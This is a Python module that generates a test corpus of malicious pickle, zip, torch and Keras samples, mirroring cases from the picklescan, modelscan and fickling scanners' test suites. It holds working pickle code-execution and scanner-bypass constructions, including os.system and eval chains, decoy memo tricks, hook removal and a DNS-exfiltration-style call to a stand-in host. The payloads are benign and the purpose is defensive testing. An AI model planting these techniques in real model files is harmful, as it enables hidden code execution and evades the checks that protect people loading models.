"""Our own reproductions of the malicious samples in other scanners' public test suites.

Nothing here is taken from those projects: each generator below is ours and reproduces one
upstream case's technique (the opcode pattern, the global it calls, the container), and is
named after the upstream file or test it mirrors. CORPUS.md lists the projects, their
licences and the mapping. Upstream cases generated from a list inside fickling are generated
here from the installed fickling package at test time, not from a copy of the list.
"""

from __future__ import annotations

import importlib.util
import marshal
import pickle
import struct
import zipfile
from collections.abc import Iterable

from scan_corpus import (  # loaded beside this module by test_scan_corpus.py
    CMD,
    MAGIC,
    Asm,
    Case,
    Ref,
    dumps_call,
    framed,
    npy_object,
    raw,
    torch_state,
    torch_zip,
    zip_bytes,
)

PS = "picklescan:tests/"
MS = "modelscan:tests/test_modelscan.py::"
FK = "fickling:test/test_bypasses.py::"
CODE = "print('corpus')"


def decoy_memo(trailing: bytes = b"") -> bytes:
    """Names stored with PUT and popped, decoy torch names among them, then GET GET
    STACK_GLOBAL and a call, without a PROTO opcode."""
    names = ((2, "os"), (3, "system"), (0, "torch"), (1, "LongStorage"))
    body = b"".join(f"V{s}\np{i}\n0".encode() for i, s in names)
    return body + b"g2\ng3\n\x93(V" + CMD.encode() + b"\ntR." + trailing


def sour_pickle() -> bytes:
    """globals() -> compile(src) -> eval(code, globals) -> getattr(dict, 'get') -> apply."""
    return (b"c__builtin__\nglobals\n(tRp1\n0c__builtin__\ncompile\n(S'x=1'\nS''\nS'exec'\n"
            b"tRp2\n0c__builtin__\neval\n(g2\ng1\ntRp3\n0c__builtin__\ngetattr\n("
            b"c__builtin__\ndict\nS'get'\ntRp4\n0c__builtin__\napply\n(g4\n(g1\nS'x'\n"
            b"ltRp5\n0g5\n.")


def with_instance(proto: int) -> bytes:
    """getattr(bdb.Bdb, 'run') (or STACK_GLOBAL 'Bdb.run') called on a fresh Bdb."""
    a = Asm(proto).glob("bdb", "Bdb.run").op(b"(").glob("bdb", "Bdb").op(b")\x81}b")
    return a.str(CMD).op(b"tR").stop()


def zip_flagged(flag: int) -> bytes:
    """A zip whose member carries general-purpose flag bits it does not honour."""
    data = bytearray(zip_bytes({"model/config.pkl": dumps_call("builtins", "eval", "1")},
                               zipfile.ZIP_STORED))
    local = data.find(b"PK\x03\x04")
    central = data.find(b"PK\x01\x02")
    struct.pack_into("<H", data, local + 6, flag)
    struct.pack_into("<H", data, central + 8, flag)
    return bytes(data)


def zip_name_mismatch() -> bytes:
    data = zip_bytes({"data.pkl": dumps_call("builtins", "eval", "1")})
    return data.replace(b"data.pkl", b"datap.kl", 1)  # the local header only


def zip_bad_crc() -> bytes:
    data = zip_bytes({"data.pkl": dumps_call("builtins", "eval", "print(1)")},
                     zipfile.ZIP_STORED)
    return data.replace(b"print(1)", b"print(2)", 1)


def magic_bypass() -> bytes:
    """A legacy torch stack whose 'magic number' is computed by eval, payload last."""
    parts = [dumps_call("builtins", "eval", hex(MAGIC), proto=2), pickle.dumps(1001, protocol=2),
             pickle.dumps({}, protocol=2), pickle.dumps([], protocol=2),
             dumps_call("posix", "system", CMD, proto=2), pickle.dumps(None, protocol=2)]
    return b"".join(parts)


def module_override() -> bytes:
    """BUILD on an imported module rewrites one of its names, then the name is imported."""
    a = Asm(4).glob("torch", "_utils").op(b"}").str("_rebuild_tensor").str("builtins")
    a.op(b"sb0").glob("torch._utils", "_rebuild_tensor")
    return a.str(CMD).op(b"\x85R").stop()


def partial_call() -> bytes:
    """functools.partial(torch.load, path, **kwargs) built with its state, then called."""
    a = Asm(4).glob("functools", "partial").op(b"(").glob("torch.serialization", "load")
    a.op(b"tR").value((Ref("torch.serialization", "load"), ("other.bin",),
                       {"weights_only": False}, None))
    return a.op(b"b)R").stop()


def attrgetter_chain(proto: int, getter: str) -> bytes:
    """<getter>(...)(builtins.__import__('os'))(cmd) with the module kept in the memo."""
    a = Asm(proto).call("builtins", "__import__", "os").op(b"p0\n0")
    if getter == "attrgetter":
        a.call("_operator", "attrgetter", "system").op(b"(g0\ntR").value((CMD,))
        return a.op(b"R").stop()
    return a.call("_operator", "methodcaller", "system", CMD).op(b"(g0\ntR").stop()


def methodcaller_locate() -> bytes:
    a = Asm(4).call("operator", "methodcaller", "system", CMD).op(b"(")
    return a.call("pydoc", "locate", "os").op(b"tR").stop()


def nested_loads() -> bytes:
    inner = b"\x80\x05cos\nsystem\nV" + CMD.encode() + b"\n\x85R."
    return Asm(5).call("pickle", "loads", inner).op(b"0N").stop()


def keyerror() -> bytes:
    return (b"\x80\x04cos\nsystem\nV" + CMD.encode() + b"\n\x85R0\x8c\x02os\x94h\x03h\x00\x93"
            b"K\x42.")


def type_confusion() -> bytes:
    return (b"\x80\x04cos\nsystem\nV" + CMD.encode() + b"\n\x85R0J\x2a\x00\x00\x00\x94"
            b"\x8c\x02os\x94h\x00h\x01\x93K\x42.")


def dynamic_import() -> bytes:
    """The module name is computed while loading (''.join(itemgetter(14, 18)(letters)))
    and handed to STACK_GLOBAL."""
    a = Asm(4).glob("operator", "itemgetter").op(b"q\x000")
    a.call("builtins", "getattr", "", "join").op(b"(h\x00").value((14, 18)).op(b"R")
    a.value(("abcdefghijklmnopqrstuvwxyz",)).op(b"RtR")
    return a.str("system").op(b"\x93").stop()


def injected_first(proto: int) -> bytes:
    """An injected call pickled before the real object in the same stream (STOP returns
    the object, the call has already run)."""
    return Asm(proto).call("posix", "system", CMD).value({"weights": [1, 2]}).stop()


def _cloudpickled() -> bytes:
    import cloudpickle

    def payload(arg: str) -> object:
        return getattr(__builtins__, "eval")(arg)  # noqa: B009 (the upstream obfuscation)

    return bytes(cloudpickle.dumps(payload))


def _dilled(proto: int) -> bytes:
    import dill

    class Reduce:
        def __reduce__(self) -> tuple[object, ...]:
            return eval, ("1",)

    return bytes(dill.dumps(Reduce(), protocol=proto))


_GHSA_CALLS: tuple[tuple[str, str, str, tuple[object, ...]], ...] = (
    ("GHSA-4r9r-ch6f-vxmx", "torch.utils.bottleneck.__main__", "run_cprofile", (CODE, {})),
    ("GHSA-86cj-95qr-2p4f", "torch._dynamo.guards", "GuardBuilder.get", ({}, CODE)),
    ("GHSA-f4x7-rfwp-v3xw", "torch.fx.experimental.symbolic_shapes",
     "ShapeEnv.evaluate_guards_expression", ({}, CODE, [])),
    ("GHSA-f745-w6jp-hpxx", "torch.utils.collect_env", "run", (CODE,)),
    ("GHSA-jhph-76pp-mggw", "torch.utils.collect_env", "run_and_read_all",
     (Ref("torch.utils.collect_env", "run"), CODE)),
    ("GHSA-h3qp-7fh3-f8h4", "torch.utils.data.datapipes.utils.decoder", "basichandlers",
     ("pickle", b"")),
    ("GHSA-vr7h-p6mm-wpmh", "torch.jit.unsupported_tensor_ops", "execWrapper", (CODE, {}, {})),
    ("GHSA-vv6j-3g6g-2pvj", "torch.utils._config_module", "ConfigModule.load_config",
     ({}, b"")),
    ("GHSA-5qwp-399c-mjwf", "trace", "Trace.run", ({}, CODE)),
    ("GHSA-g344-hcph-8vgg", "trace", "Trace.runctx", ({}, CODE, {}, {})),
    ("GHSA-x696-vm39-cp64", "profile", "Profile.run", ({}, CODE)),
    ("GHSA-6vqj-c2q5-j97w", "profile", "Profile.runctx", ({}, CODE, {}, {})),
    ("GHSA-f54q-57x4-jg88", "lib2to3.pgen2.grammar", "Grammar.loads", ({}, b"")),
    ("GHSA-3vg9-h568-4w9m", "idlelib.debugobj", "ObjectTreeItem.SetText", ({}, CODE)),
    ("GHSA-6w4w-5w54-rjvr", "idlelib.autocomplete", "AutoComplete.get_entity", ({}, CODE)),
    ("GHSA-7cq8-mj8x-j263", "idlelib.autocomplete", "AutoComplete.fetch_completions",
     ({}, CODE, 1)),
    ("GHSA-cj3c-v495-4xqh", "code", "InteractiveInterpreter.runcode", ({}, CODE)),
    ("GHSA-8r4j-24qv-fmq9", "idlelib.calltip", "Calltip.fetch_tip", ({}, CODE)),
    ("GHSA-9xph-j2h6-g47v", "idlelib.calltip", "get_entity", (CODE,)),
    ("GHSA-4whj-rm5r-c2v8", "torch.utils.bottleneck.__main__", "run_autograd_prof",
     (CODE, {})),
    ("GHSA-xp4f-hrf8-rxw7", "ensurepip", "_run_pip", (CODE,)),
    ("GHSA-p9w7-82w4-7q8m", "lib2to3.pgen2.pgen", "ParserGenerator.make_label",
     (None, {}, '""+' + CODE)),
    ("GHSA-vvpj-8cmc-gx39", "pkgutil", "resolve_name", ("os:system",)),
    ("GHSA-m869-42cg-3xwr", "idlelib.run", "Executive.runcode", ({}, CODE)),
    ("GHSA-j343-8v2j-ff7w", "idlelib.pyshell", "ModifiedInterpreter.runcommand", ({}, CODE)),
    ("GHSA-3gf5-cxq9-w223", "idlelib.pyshell", "ModifiedInterpreter.runcode", ({}, CODE)),
    ("GHSA-fqq6-7vqf-w3fg", "doctest", "debug_script", (CODE, True)),
    ("GHSA-9w88-8rmg-7g2p", "cProfile", "runctx", (CODE, None, None)),
    ("GHSA-49gj-c84q-6qm9", "cProfile", "run", (CODE,)),
    ("GHSA-7wx9-6375-f5wh", "profile", "run", (CODE,)),
    ("GHSA-q77w-mwjj-7mqx", "asyncio.unix_events", "_UnixSubprocessTransport._start",
     ({}, "id", True, None, None, None, 0)),
    ("GHSA-m273-6v24-x4m4", "distutils.file_util", "write_file", ("x.env", ["x"])),
    ("GHSA-4675-36f9-wf6r", "ctypes", "CDLL", (None,)),
    ("GHSA-vqmv-47xg-9wpr", "pty", "spawn", (["/bin/sh", "-c", "id"],)),
    ("GHSA-r8g5-cgf2-4m4m", "numpy.f2py.crackfortran", "getlincoef", (CODE, [])),
    ("GHSA-g38g-8gr9-h9xp-uuid", "uuid", "_get_command_stdout", ("id",)),
    ("GHSA-g38g-8gr9-h9xp-osx-support", "_osx_support", "_read_output", ("id",)),
    ("GHSA-g38g-8gr9-h9xp-aix-support", "_aix_support", "_read_cmd_output", ("id",)),
    ("GHSA-g38g-8gr9-h9xp-imaplib", "imaplib", "IMAP4_stream", ("id",)),
    ("GHSA-g38g-8gr9-h9xp-pyrepl-pager", "_pyrepl.pager", "pipe_pager", ("text", "id")),
    ("GHSA-g38g-8gr9-h9xp-test", "test.support.script_helper", "assert_python_ok",
     ("-c pass",)),
    ("io_FileIO", "_io", "FileIO", ("/etc/hosts", "r")),
    ("urllib_request_urlopen", "urllib.request", "urlopen", ("https://example.invalid",)),
    ("logging_FileHandler", "logging", "FileHandler", ("evil.log",)),
    ("malicious21", "timeit", "timeit", ("", CODE)),
    ("malicious22", "numpy.testing._private.utils", "runstring", (CODE, {})),
)
_PICKLESCAN_CALLS: tuple[tuple[str, str, str, tuple[object, ...], int], ...] = (
    ("data/malicious3.pkl", "http.client", "HTTPSConnection", ("example.invalid",), 0),
    ("data/malicious4.pickle", "requests.api", "get", ("https://example.invalid",), 4),
    ("data/malicious5.pickle", "aiohttp.client", "ClientSession", (), 4),
    ("data/malicious7.pkl", "socket", "create_connection", (("example.invalid", 80),), 4),
    ("data/malicious8.pkl", "subprocess", "run", (["ls", "-l"],), 4),
    ("data/malicious9.pkl", "sys", "exit", (0,), 4),
    ("data/malicious14.pkl", "runpy", "_run_code", (CODE,), 4),
    ("data/malicious16.pkl", "pip", "main", (["install", "x", "-q"],), 0),
    ("data/malicious17.pkl", "torch._inductor.codecache", "compile_file",
     ("", "", ["sh", "-c", "id"]), 4),
    ("data/malicious18.pkl", "pydoc", "pipepager", ("", "id"), 4),
    ("data/malicious20.pkl", "venv", "create", ("venv", False, False, True, False, "x"), 4),
)


def _picklescan_calls() -> Iterable[Case]:
    for ghsa, module, name, args in _GHSA_CALLS:
        file = f"{ghsa}.pkl"
        yield raw(f"{PS}data2/{file}", file, lambda m=module, n=name, a=args: dumps_call(
            m, n, *a))
    yield raw(f"{PS}data2/GHSA-jgw4-cr84-mqxg.bin", "GHSA-jgw4-cr84-mqxg.bin", lambda: dumps_call(
        "asyncio.unix_events", "_UnixSubprocessTransport._start", {}, "id", True, None, None,
        None, 0))
    for path, module, name, args, proto in _PICKLESCAN_CALLS:
        file = path.rsplit("/", 1)[-1]
        yield raw(f"{PS}{path}", file, lambda m=module, n=name, a=args, p=proto: dumps_call(
            m, n, *a, proto=p))
    for p in (0, 3, 4):
        yield raw(f"{PS}data/malicious1_v{p}.pkl", f"malicious1_v{p}.pkl",
                  lambda p=p: dumps_call("builtins", "eval", CODE, proto=p))
        yield raw(f"{PS}data/malicious2_v{p}.pkl", f"malicious2_v{p}.pkl",
                  lambda p=p: dumps_call("posix", "system", "ls -la", proto=p))


def _picklescan_crafted() -> Iterable[Case]:
    yield raw(f"{PS}data/bad_pytorch.pt", "bad_pytorch.pt", lambda: b"\x89PNG\r\n\x1a\n",
              expect="SCAN-CORRUPT")
    yield raw(f"{PS}data/broken_model.pkl", "broken_model.pkl", lambda: (
        b"cbuiltins\nexec\n(X" + struct.pack("<I", 10_000) + CODE.encode()))
    yield raw(f"{PS}data/malicious-invalid-bytes.pkl", "malicious-invalid-bytes.pkl",
              lambda: decoy_memo(b"\n\n\t\t"))
    yield raw(f"{PS}data/malicious0.pkl", "malicious0.pkl", sour_pickle)
    yield raw(f"{PS}data/malicious1.7z", "malicious1.7z", lambda: (
        b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24) + dumps_call("builtins", "eval", CODE)),
        expect="SCAN-UNKNOWN-FORMAT")
    yield raw(f"{PS}data/malicious1.zip", "malicious1.zip", lambda: zip_bytes(
        {"data.pkl": dumps_call("builtins", "eval", CODE)}))
    yield raw(f"{PS}data/malicious1_wrong_ext.zip", "malicious1_wrong_ext.zip",
              lambda: zip_bytes({"data.txt": dumps_call("builtins", "eval", CODE)}))
    yield raw(f"{PS}data/malicious1_0x1.zip", "malicious1_0x1.zip", lambda: zip_flagged(0x1),
              expect="SCAN-ENCRYPTED")
    for flag in (0x20, 0x40):
        yield raw(f"{PS}data/malicious1_{flag:#x}.zip", f"malicious1_{flag:#x}.zip",
                  lambda f=flag: zip_flagged(f), expect="SCAN-CORRUPT")
    yield raw(f"{PS}data/malicious1_central_directory.zip", "malicious1_cd.zip",
              zip_name_mismatch, expect="SCAN-CORRUPT")
    yield raw(f"{PS}data2/malicious1_crc.zip", "malicious1_crc.zip", zip_bad_crc,
              expect="SCAN-CORRUPT")
    yield raw(f"{PS}data/malicious6.pkl", "malicious6.pkl", lambda: pickle.dumps(
        ["a", "b", "c"], protocol=4) + dumps_call("requests.api", "get", "https://x.invalid"))
    yield raw(f"{PS}data/malicious10.pkl", "malicious10.pkl",
              lambda: b"(S'" + CODE.encode() + b"'\ni__builtin__\nexec\n.")
    yield raw(f"{PS}data/malicious11.pkl", "malicious11.pkl", decoy_memo)
    yield raw(f"{PS}data/malicious12.pkl", "malicious12.pkl", lambda: Asm(4).call(
        "operator", "attrgetter", "system").op(b"(").call("builtins", "__import__", "os")
        .op(b"tR").value((CMD,)).op(b"R").stop())
    yield raw(f"{PS}data/malicious13a.pkl", "malicious13a.pkl", lambda: Asm(0).glob(
        "pickle", "loads").op(b"(").call("_codecs", "encode", "I1\n.", "latin1").op(b"tR")
        .stop())
    yield raw(f"{PS}data/malicious13b.pkl", "malicious13b.pkl",
              lambda: dumps_call("_pickle", "loads", b"I1\n."))
    yield raw(f"{PS}data/malicious15a.pkl", "malicious15a.pkl", lambda: with_instance(2))
    yield raw(f"{PS}data/malicious15b.pkl", "malicious15b.pkl", lambda: with_instance(4))
    yield raw(f"{PS}data/malicious19.pkl", "malicious19.pkl", partial_call)
    yield raw(f"{PS}data/pytorch_magic_bypass.pt", "pytorch_magic_bypass.pt", magic_bypass)
    yield raw(f"{PS}data/sys_module_override_sploit.pkl", "sys_module_override_sploit.pkl",
              module_override, expect="SCAN-MUTATE-GLOBAL")
    yield raw(f"{PS}data/not_a_pickle.bin", "not_a_pickle.bin", lambda: b"cmod\n\xf8\n",
              expect="SCAN-UNKNOWN-FORMAT")


def _picklescan_data2() -> Iterable[Case]:
    yield raw(f"{PS}data2/GHSA-46h3-79wf-xr6c.pkl", "GHSA-46h3-79wf-xr6c.pkl",
              lambda: attrgetter_chain(0, "attrgetter"))
    yield raw(f"{PS}data2/GHSA-955r-x9j8-7rhh.pkl", "GHSA-955r-x9j8-7rhh.pkl",
              lambda: attrgetter_chain(0, "methodcaller"))
    yield raw(f"{PS}data2/GHSA-84r2-jw7c-4r5q.pkl", "GHSA-84r2-jw7c-4r5q.pkl",
              methodcaller_locate)
    if importlib.util.find_spec("cloudpickle") is not None:
        yield raw(f"{PS}data2/cloudpickle_codeinjection.pkl", "cloudpickle_codeinjection.pkl",
                  _cloudpickled)
    yield raw(f"{PS}data2/dns_exfiltration.npy", "dns_exfiltration.npy", lambda: npy_object(
        dumps_call("ssl", "get_server_certificate", ("x.dns-logger.invalid", 443), proto=3)))
    yield raw(f"{PS}data2/keyerror-exploit.pkl", "keyerror-exploit.pkl", keyerror)
    yield raw(f"{PS}data2/type-confusion-exploit.pkl", "type-confusion-exploit.pkl",
              type_confusion)
    yield raw(f"{PS}data2/malicious23.pkl", "malicious23.pkl",
              lambda: b"S'os'\nS'system'\n\x93S'ls'\n\x85R.")
    yield raw(f"{PS}data2/types_CodeType.pkl", "types_CodeType.pkl", lambda: Asm(4).call(
        "types", "CodeType", 0, 0, 0, 0, 0, 0, b"d\x00S\x00", (), (), (), "<x>", "x", "x", 1,
        b"", b"", (), ()).stop())


def _modelscan() -> Iterable[Case]:
    yield raw(f"{MS}file_path/data/malicious0.pkl", "malicious0.pkl", sour_pickle)
    for p in (0, 3, 4):
        yield raw(f"{MS}file_path/data/malicious1_v{p}.pkl", f"malicious1_v{p}.pkl",
                  lambda p=p: dumps_call("builtins", "eval", CODE, proto=p))
        yield raw(f"{MS}file_path/data/malicious2_v{p}.pkl", f"malicious2_v{p}.pkl",
                  lambda p=p: dumps_call("posix", "system", "ls -la", proto=p))
        if importlib.util.find_spec("dill") is not None:
            yield raw(f"{MS}file_path/data/malicious1_v{p}.dill", f"malicious1_v{p}.dill",
                      lambda p=p: _dilled(p))
    for n, module, name, args, proto in (
            (3, "http.client", "HTTPSConnection", ("example.invalid",), 0),
            (4, "requests.api", "get", ("https://example.invalid",), 4),
            (5, "aiohttp.client", "ClientSession", (), 4),
            (7, "socket", "create_connection", (("example.invalid", 80),), 4),
            (8, "subprocess", "run", (["ls", "-l"],), 4), (9, "sys", "exit", (0,), 4)):
        yield raw(f"{MS}file_path/data/malicious{n}.pkl", f"malicious{n}.pkl",
                  lambda m=module, nm=name, a=args, p=proto: dumps_call(m, nm, *a, proto=p))
    yield raw(f"{MS}file_path/data/malicious6.pkl", "malicious6.pkl", lambda: pickle.dumps(
        ["a"], protocol=4) + dumps_call("requests.api", "get", "https://x.invalid"))
    yield raw(f"{MS}file_path/data/malicious10.pkl", "malicious10.pkl",
              lambda: b"(S'" + CODE.encode() + b"'\ni__builtin__\nexec\n.")
    yield raw(f"{MS}file_path/data/malicious11.pkl", "malicious11.pkl", decoy_memo)
    yield raw(f"{MS}malicious12_gen", "malicious12.pkl", nested_loads)
    yield raw(f"{MS}malicious13_gen", "malicious13.pkl", lambda: (
        b"\x80\x05cbuiltins\neval.__call__\nV" + CODE.encode() + b"\n\x85R."))
    yield raw(f"{MS}malicious14_gen", "malicious14.pkl", lambda: decoy_memo(b"\n\n\t\t"))
    yield raw(f"{MS}file_path/data/malicious15.pkl", "malicious15.pkl", lambda: with_instance(4))
    yield raw(f"{MS}file_path/data/malicious1.zip", "malicious1.zip", lambda: zip_bytes(
        {"data.pkl": dumps_call("builtins", "eval", CODE)}))
    yield raw(f"{MS}zip_file_path/test.zip", "test.zip", lambda: zip_bytes(
        {"data.pkl": dumps_call("builtins", "eval", CODE)}))
    yield raw(f"{MS}file_path/data/password_protected.zip", "password_protected.zip",
              lambda: zip_flagged(0x1), expect="SCAN-ENCRYPTED")
    yield from _modelscan_models()


def _modelscan_models() -> Iterable[Case]:
    yield raw("modelscan:tests/data/unsafe_zip_pytorch.pt", "unsafe_zip_pytorch.pt",
              lambda: torch_zip(injected_first(2)[:-1] + torch_state()[2:-1] + b"0.",
                                prefix="unsafe_zip_pytorch"))
    yield raw(f"{MS}pytorch_file_path/bad_pytorch.pt", "bad_pytorch.pt",
              lambda: b"\x89PNG\r\n\x1a\n", expect="SCAN-CORRUPT")
    yield raw(f"{MS}keras_file_path/unsafe (dill injection)", "unsafe",
              lambda: injected_first(4))
    lam = b'{"class_name": "Lambda", "config": {"function": ["4wEAAAAA", null, null]}}'
    yield raw(f"{MS}keras_file_path/unsafe_model.keras", "unsafe_model.keras",
              lambda: zip_bytes({"config.json": b'{"layers": [' + lam + b"]}"}),
              expect="SCAN-KERAS-LAMBDA")
    yield raw(f"{MS}keras_file_path/unsafe_model.h5", "unsafe_model.h5",
              lambda: b"\x89HDF\r\n\x1a\n" + bytes(64) + b'{"config": ' + lam + b"}" + bytes(64),
              expect="SCAN-KERAS-LAMBDA")
    yield raw(f"{MS}keras_file_path/unsafe_saved_model_dir/saved_model.pb", "saved_model.pb",
              lambda: b"\x08\x01\x12\x04" + lam, expect="SCAN-UNKNOWN-FORMAT")


def _fickling_bypasses() -> Iterable[Case]:
    call = dumps_call
    yield raw(f"{FK}test_missing_pty_unsafe_imports_ghsa", "pty.pkl", lambda: Asm(4).call(
        "pty", "spawn", "id").str("gottem").op(b"b").stop())
    yield raw(f"{FK}test_missing_pty_unsafe_imports_pr", "pty0.pkl",
              lambda: b"(cpty\nspawn\nS'id'\no.")
    yield raw(f"{FK}test_missing_marshal_and_types", "marshal.pkl", lambda: Asm(4).glob(
        "types", "FunctionType").op(b"(").call("marshal", "loads", marshal.dumps(
            compile("1", "<corpus>", "eval"))).value({}).op(b"tR)R").stop())
    yield raw(f"{FK}test_missing_runpy", "runpy.pkl", lambda: call("runpy", "run_path", "/x.py",
                                                                  proto=5))
    yield raw(f"{FK}test_missing_cprofile", "cprofile.pkl",
              lambda: call("cProfile", "run", CODE, proto=5))
    for test, module, name, args, attr in (
            ("test_missing_ctypes", "ctypes", "CDLL", ("libc.so.6",), "system"),
            ("test_missing_importlib", "importlib", "import_module", ("os",), "system"),
            ("test_missing_code", "code", "InteractiveInterpreter", (), "runsource")):
        yield raw(f"{FK}{test}", f"{module}.pkl", lambda m=module, n=name, a=args, at=attr: Asm(
            4).glob("builtins", "getattr").op(b"(").call(m, n, *a).str(at).op(b"tR").value(
                ("id",)).op(b"R").stop())
    yield raw(f"{FK}test_missing_pydoc", "pydoc.pkl", lambda: Asm(4).call(
        "pydoc", "locate", "os.system").value(("id",)).op(b"R").stop())
    yield raw(f"{FK}test_missing_multiprocessing", "mp.pkl", lambda: call(
        "multiprocessing.util", "spawnv_passfds", b"/bin/sh", [b"/bin/sh", b"-c", b"id"], (),
        proto=5))
    yield raw(f"{FK}test_builtins_import_bypass", "bi.pkl", lambda: Asm(2).glob(
        "builtins", "getattr").op(b"(").call("builtins", "__import__", "os").str("system")
        .op(b"tR").value(("id",)).op(b"R").stop())
    yield raw(f"{FK}test_unsafe_builtins_still_flagged", "ga.pkl",
              lambda: call("builtins", "getattr", "x", "upper", proto=4))
    yield raw(f"{FK}test_unsafe_builtin_eval_still_flagged", "ev.pkl",
              lambda: call("builtins", "eval", "1", proto=4))
    yield raw(f"{FK}test_operator_methodcaller", "mc.pkl",
              lambda: attrgetter_chain(4, "methodcaller"))
    for test, module, name, args in (
            ("test_distutils_write_file", "distutils.file_util", "write_file", ("x", ["y"])),
            ("test_io_fileio", "_io", "FileIO", ("/etc/passwd",)),
            ("test_numpy_f2py_getlincoef", "numpy.f2py.crackfortran", "getlincoef", (CODE, [])),
            ("test_asyncio_subprocess", "asyncio.unix_events", "_UnixSubprocessTransport._start",
             ({}, "id", True, None, None, None, 0)),
            ("test_missing_uuid", "uuid", "_get_command_stdout", ("echo", "x")),
            ("test_missing_aix_support", "_aix_support", "_read_cmd_output", ("id",)),
            ("test_missing_osx_support", "_osx_support", "_find_build_tool", ("id",)),
            ("test_dotted_attr_via_stdlib_module", "pathlib", "os.system", ("id",)),
            ("test_ml_allowlist_not_shadowed_by_unsafe_imports_ml", "ast", "parse", ("1",))):
        yield raw(f"{FK}{test}", f"{test[5:]}.pkl",
                  lambda m=module, n=name, a=args: call(m, n, *a, proto=4))
    yield from _fickling_more()


def _fickling_more() -> Iterable[Case]:
    for module, cls, port in (("smtplib", "SMTP", 25), ("imaplib", "IMAP4", 143),
                              ("ftplib", "FTP", 21), ("poplib", "POP3", 110),
                              ("telnetlib", "Telnet", 23), ("nntplib", "NNTP", 119)):
        yield raw(f"{FK}test_network_protocol_ssrf[{module}]", f"ssrf_{module}.pkl",
                  lambda m=module, c=cls, p=port: Asm(4).call(m, c, "127.0.0.1", p)
                  .op(b"}b").stop())
    yield raw(f"{FK}test_obj_pop_call_invisibility", "objpop.pkl", lambda: Asm(4).op(b"(").glob(
        "smtplib", "SMTP").str("127.0.0.1").op(b"o0N").stop())
    for module in ("_interpreters", "_xxsubinterpreters"):
        yield raw(f"{FK}test_private_stdlib_interpreters_blocklisted[{module}]", f"{module}.pkl",
                  lambda m=module: dumps_call(m, "create"))
    yield raw(f"{FK}test_private_stdlib_allowlist (dotted name under __future__)", "fut.pkl",
              lambda: Asm(4).glob("__future__", "_ssl.RAND_bytes").stop())
    hidden = b"cos\nsystem\nVid\n\x85R"
    yield raw(f"{FK}test_frame_boundary_divergence", "frame.pkl", lambda: (
        b"\x80\x05NV" + b"a" * 2000 + b"\n0(\x95" + struct.pack("<Q", 2) + b"B\x07\x01\x00\x00"
        + b"\x00\x00" + (hidden + b"(").ljust(261, b"N") + b"1."), expect="SCAN-CORRUPT")
    for i, (body, declared) in enumerate((
            (b"B" + struct.pack("<I", 20) + b"A" * 20, 5), (b"\x8c\x14" + b"A" * 20, 3),
            (b"cmacos\nsystem\n", 4), (b"cos\nsystem\n", 7), (b"Vhello world\n", 5),
            (b"J" + struct.pack("<i", 7), 2),
            (b"N\x95" + struct.pack("<Q", 2) + b"N", 30))):
        yield raw(f"{FK}test_frame_boundary_straddle_variants[{i}]", f"straddle{i}.pkl",
                  lambda b=body, d=declared: framed(b, d) + b".", expect="SCAN-CORRUPT")
    yield raw("fickling:test/test_crashes.py::test_stack_global_dynamic_import", "dyn.pkl",
              dynamic_import, expect="SCAN-GLOBAL-UNRESOLVED")
    yield from _fickling_lists()


def _fickling_lists() -> Iterable[Case]:
    """The upstream tests that iterate fickling's own module lists, from the installed
    fickling (the lists are read at test time, never copied here)."""
    if importlib.util.find_spec("fickling") is None:
        return
    from fickling.analysis import ScannerDeactivation, UnsafeImportsML

    test = "fickling:test/test_bypasses.py::TestUnsafeModuleCoverage::"
    for module in sorted(getattr(UnsafeImportsML, "UNSAFE_MODULES", ())):
        yield raw(f"{test}test_all_unsafe_modules_detected[{module}]", f"um_{module}.pkl",
                  lambda m=module: dumps_call(m, "dangerous"))
    for module, funcs in sorted(getattr(UnsafeImportsML, "UNSAFE_IMPORTS", {}).items()):
        for func in sorted(funcs):
            yield raw(f"{test}test_all_unsafe_imports_detected[{module}.{func}]",
                      f"ui_{module}.{func}.pkl", lambda m=module, f=func: dumps_call(m, f))
    test = "fickling:test/test_scanner_deactivation_analysis.py::"
    for module in sorted(getattr(ScannerDeactivation, "SCANNER_MODULES", ("fickling.hook",))):
        yield raw(f"{test}test_all_scanner_modules_covered[{module}]", f"sd_{module}.pkl",
                  lambda m=module: dumps_call(m, "some_func"))
    yield raw(f"{test}test_fickling_remove_hook_via_global_opcode", "hook.pkl",
              lambda: dumps_call("fickling.hook", "remove_hook", proto=2))
    yield raw(f"{test}test_fickling_deactivate_safe_ml", "hook_ml.pkl",
              lambda: dumps_call("fickling.hook", "deactivate_safe_ml_environment"))


def malicious() -> list[Case]:
    return [*_picklescan_calls(), *_picklescan_crafted(), *_picklescan_data2(), *_modelscan(),
            *_fickling_bypasses()]
